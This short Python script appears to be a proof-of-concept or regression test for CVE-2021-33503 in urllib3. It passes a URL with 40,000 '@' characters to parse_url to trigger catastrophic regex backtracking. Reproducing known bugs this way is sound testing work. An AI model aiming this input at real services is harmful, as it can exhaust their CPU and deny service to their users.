# CVE-2021-33503 (PYSEC-2021-108): many "@" in the authority make parse_url backtrack catastrophically.
from urllib3.util.url import parse_url

parse_url("https://" + "@" * 40000 + "\n")
print("parsed")
